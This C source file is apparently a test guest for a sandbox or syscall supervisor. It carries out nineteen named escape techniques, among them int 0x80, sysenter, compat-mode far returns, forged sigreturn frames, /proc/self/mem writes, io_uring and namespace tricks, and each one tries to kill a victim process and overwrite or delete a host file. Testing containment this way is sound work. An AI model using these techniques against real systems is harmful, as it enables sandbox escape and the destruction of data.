// Tries to get at a file and a process of the host: `escape ATTACK FILE PID`. Two threads try it in turns, so that a search goes back and tries again.
#define _GNU_SOURCE
#include "../guest.h"
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <setjmp.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/ucontext.h>
#include <ucontext.h>
#include <wchar.h>

#define PAGE 4096UL
extern char __ehdr_start[];

static const char *file;
static int victim;
static sigjmp_buf back;
static volatile int traps;

static void on_fault(int signo) { siglongjmp(back, signo); }

static long call(uint64_t number, long a, long b, long c) {
    long result;
    register long d asm("r10") = 0;
    asm volatile("syscall"
                 : "=a"(result)
                 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(d)
                 : "rcx", "r11", "memory");
    return result;
}

/// All that it wants to do, by a way to make system calls.
static void harm(long (*by)(uint64_t, long, long, long), uint64_t bits) {
    by(bits | SYS_kill, victim, SIGKILL, 0);
    by(bits | SYS_tkill, victim, SIGKILL, 0);
    by(bits | SYS_truncate, (long)file, 0, 0);
    long fd = by(bits | SYS_open, (long)file, O_WRONLY | O_TRUNC, 0);
    by(bits | SYS_write, fd, (long)"escaped", 7);
    by(bits | SYS_unlink, (long)file, 0, 0);
}

/// A call by the two instructions that are, or were put, at this address.
static char *place;
static long call_there(uint64_t number, long a, long b, long c) {
    long result = -1;
    if (sigsetjmp(back, 1) == 0)
        asm volatile("call *%1"
                     : "=a"(result)
                     : "r"(place), "a"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return result;
}

static void use(char *at) {
    const char code[] = {0x0f, 0x05, (char)0xc3};
    place = at;
    // As it is: code that only has to be jumped to.
    harm(call_there, 0);
    mprotect((char *)((uintptr_t)at & -PAGE), PAGE, PROT_READ | PROT_WRITE | PROT_EXEC);
    if (sigsetjmp(back, 1) == 0) {
        memcpy(at, code, sizeof code);
        harm(call_there, 0);
    }
    mremap((char *)((uintptr_t)at & -PAGE), PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)0x10000000);
    munmap((char *)((uintptr_t)at & -PAGE), PAGE);
    char *own = mmap((char *)((uintptr_t)at & -PAGE), PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    if (own != MAP_FAILED && sigsetjmp(back, 1) == 0) {
        memcpy(at, code, sizeof code);
        harm(call_there, 0);
    }
    munmap((char *)((uintptr_t)at & -PAGE), PAGE);
}

/// Leaves other code there than a supervisor would expect: a loop without end, were it ever executed.
static void trap_door(char *at) {
    // `jmp .` twice. By the library: a search that looks at accesses of the program's own code would stop at each store of a loop.
    const wchar_t loops = (wchar_t)0xfeebfeeb;
    char *own = mmap((char *)((uintptr_t)at & -PAGE), PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    if (own != MAP_FAILED)
        wmemset((wchar_t *)own, loops, PAGE / sizeof loops);
}

/// Memory that can be executed need not be readable, where the processor has protection keys.
static int starts_with_a_loop(const char *at) {
    return sigsetjmp(back, 1) == 0 && *(volatile const char *)at == (char)0xeb;
}

static void pages(void) {
    char *below = (char *)((uintptr_t)__ehdr_start / PAGE * PAGE) - 0x101000;
    char *const places[] = {(char *)0x6fff00000000, (char *)0x6fff00000008, (char *)0x7fffe0000000, (char *)0x7fffe0000010, below, below + 0x10};
    static int again;
    for (size_t i = 0; again && i < sizeof places / sizeof *places; i++)
        munmap((char *)((uintptr_t)places[i] & -PAGE), PAGE);
    again = 1;
    for (size_t i = 0; i < sizeof places / sizeof *places; i++)
        use(places[i]);
    for (size_t i = 0; i < sizeof places / sizeof *places; i++)
        trap_door(places[i]);
    // Whatever anonymous memory with code there is.
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[512], access[8];
    uintptr_t start, end;
    unsigned long inode;
    while (maps && fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx %7s %*s %*s %lu", &start, &end, access, &inode) == 4 && access[2] == 'x' && inode == 0 &&
            start < 0x7ffffffff000 && !starts_with_a_loop((char *)start))
            use((char *)start);
    if (maps)
        fclose(maps);
}

/// Catches the traps that a supervisor would use.
static void on_trap(int signo) { traps++, (void)signo; }
static void trapped(void) {
    signal(SIGTRAP, on_trap);
    signal(SIGSYS, on_trap);
    pages();
    asm volatile("int3");
    harm(call, 0);
}

static void int80(void) {
    asm volatile("int $0x80" : : "a"(37), "b"(victim), "c"(SIGKILL) : "memory");
}

static void sysenter(void) {
    if (sigsetjmp(back, 1) == 0)
        asm volatile("mov %%rsp, %%rbp; sysenter" : : "a"(37), "b"(victim), "c"(SIGKILL) : "memory", "rdx");
}

/// 32-bit code by a far return: `int $0x80` from there.
static void compat(void) {
    unsigned char *code = mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    memcpy(code, "\xcd\x80\xf4", 3);
    if (sigsetjmp(back, 1) == 0)
        asm volatile("push $0x23; push %0; lretq" : : "r"((uint64_t)code), "a"(37), "b"(victim), "c"(SIGKILL) : "memory");
}

static void x32(void) { harm(call, 0x40000000); }
static void high_bits(void) { harm(call, 1ULL << 32), harm(call, 1ULL << 63); }

static void vsyscall(void) {
    struct timeval now;
    if (sigsetjmp(back, 1) == 0)
        ((int (*)(struct timeval *, void *))0xffffffffff600000)(&now, NULL);
    harm(call, 0);
}

static void untraced(void) {
    long child = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
    harm(call, 0);
    if (child == 0)
        _exit(0);
}

static void tracer(void) {
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    ptrace(PTRACE_ATTACH, victim, 0, 0);
    ptrace(PTRACE_SEIZE, getppid(), 0, 0);
    harm(call, 0);
}

static void filters(void) {
    struct sock_filter allow[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
    struct sock_fprog program = {1, allow};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program);
    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, &program);
    syscall(SYS_seccomp, SECCOMP_SET_MODE_STRICT, 0, NULL);
    harm(call, 0);
}

static void rings(void) {
    char parameters[256] = {0};
    syscall(SYS_io_uring_setup, 8, parameters);
    harm(call, 0);
}

static void faults(void) {
    syscall(SYS_userfaultfd, O_CLOEXEC);
    harm(call, 0);
}

static void own_memory(void) {
    int fd = open("/proc/self/mem", O_RDWR);
    pwrite(fd, "\x0f\x05\xc3", 3, 0x7fffe0000000);
    struct iovec mine = {(void *)"\x0f\x05\xc3", 3}, there = {(void *)0x7fffe0000000, 3};
    syscall(SYS_process_vm_writev, getpid(), &mine, 1, &there, 1, 0);
    syscall(SYS_process_vm_writev, victim, &mine, 1, &there, 1, 0);
    pages();
}

static void new_program(void) {
    int fd = syscall(SYS_memfd_create, "program", 0);
    char path[64];
    sprintf(path, "/proc/self/fd/%d", fd);
    write(fd, "#!/bin/sh\nkill -9 $1\n", 21);
    char pid[16], *argv[] = {path, pid, NULL};
    sprintf(pid, "%d", victim);
    execve(path, argv, NULL);
    execl("/bin/sh", "sh", "-c", "echo escaped > \"$0\"; kill -9 $1", file, pid, NULL);
}

static void signals(void) {
    harm(call, 0);
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    int pidfd = syscall(SYS_pidfd_open, victim, 0);
    syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0);
    union sigval value = {0};
    sigqueue(victim, SIGKILL, value);
}

/// Returns from a signal that never was, to registers of its choice.
static void forged(void) {
    char *at = (char *)0x6fff00000000;
    struct { ucontext_t uc; } *frame = aligned_alloc(64, 4096);
    memset(frame, 0, 4096);
    getcontext(&frame->uc);
    frame->uc.uc_mcontext.gregs[REG_RIP] = (greg_t)at;
    frame->uc.uc_mcontext.gregs[REG_RAX] = SYS_kill;
    frame->uc.uc_mcontext.gregs[REG_RDI] = victim;
    frame->uc.uc_mcontext.gregs[REG_RSI] = SIGKILL;
    frame->uc.uc_mcontext.gregs[REG_CSGSFS] = 0x23;
    if (sigsetjmp(back, 1) == 0)
        asm volatile("mov %0, %%rsp; mov $15, %%eax; syscall" : : "r"(frame) : "memory", "rax");
}

/// Under the single-step flag, which a call resets on its way in.
static void stepping(void) {
    signal(SIGTRAP, on_trap);
    asm volatile("pushf; orl $0x100, (%%rsp); popf" ::: "memory", "cc");
    harm(call, 0);
    asm volatile("pushf; andl $~0x100, (%%rsp); popf" ::: "memory", "cc");
}

static void privileges(void) {
    syscall(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS);
    syscall(SYS_setns, 3, 0);
    syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, NULL);
    syscall(SYS_setuid, 0);
    harm(call, 0);
}

static const struct {
    const char *name;
    void (*run)(void);
} attacks[] = {
    {"pages", pages},         {"trapped", trapped},   {"int80", int80},           {"sysenter", sysenter}, {"compat", compat},
    {"x32", x32},             {"high_bits", high_bits}, {"vsyscall", vsyscall},   {"untraced", untraced}, {"tracer", tracer},
    {"filters", filters},     {"rings", rings},       {"faults", faults},         {"own_memory", own_memory},
    {"new_program", new_program}, {"signals", signals}, {"forged", forged},       {"stepping", stepping}, {"privileges", privileges},
};

static pthread_mutex_t turn = PTHREAD_MUTEX_INITIALIZER;

static void *attack(void *arg) {
    pthread_mutex_lock(&turn);
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
        if (strcmp(attacks[i].name, arg) == 0)
            attacks[i].run();
    pthread_mutex_unlock(&turn);
    return NULL;
}

int main(int argc, char **argv) {
    pthread_t threads[2];
    CHECK(argc == 4);
    file = argv[2], victim = atoi(argv[3]);
    signal(SIGSEGV, on_fault), signal(SIGBUS, on_fault), signal(SIGILL, on_fault);
    for (int i = 0; i < 2; i++)
        CHECK(pthread_create(&threads[i], NULL, attack, argv[1]) == 0);
    for (int i = 0; i < 2; i++)
        CHECK(pthread_join(threads[i], NULL) == 0);
    return 0;
}
